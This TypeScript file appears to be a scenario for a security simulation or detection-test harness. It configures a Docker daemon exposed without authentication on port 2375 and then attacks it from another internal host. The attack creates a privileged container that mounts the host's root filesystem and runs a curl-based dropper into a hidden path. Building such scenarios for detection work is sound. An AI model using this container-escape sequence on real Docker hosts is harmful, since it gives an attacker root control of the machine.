// Port 2375 is open to the own network only; another host, taken before, used it.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.logins(ordinary)
  dress.toy({
    unit: 'docker',
    user: 'root',
    exe: '/usr/bin/dockerd',
    title: 'dockerd -H tcp://0.0.0.0:2375',
    home: '/var/lib/docker',
    play: 'docker',
  })
}

export async function plant(stage: Stage): Promise<void> {
  const from = '10.20.0.31'
  const line = dropper(stage, { path: '/usr/bin/.k/kd', fetch: 'curl', cron: false })
  const container = { Image: 'alpine:latest', Cmd: ['/bin/sh', '-c', line], HostConfig: { Binds: ['/:/mnt'], Privileged: true } }
  stage.mark('occurrence')
  const said = await stage.http(from, ':2375/v1.43/containers/create', JSON.stringify(container), { 'Content-Type': 'application/json' })
  await stage.http(from, `:2375/v1.43/containers/${(JSON.parse(said) as { Id: string }).Id}/start`, '')
}
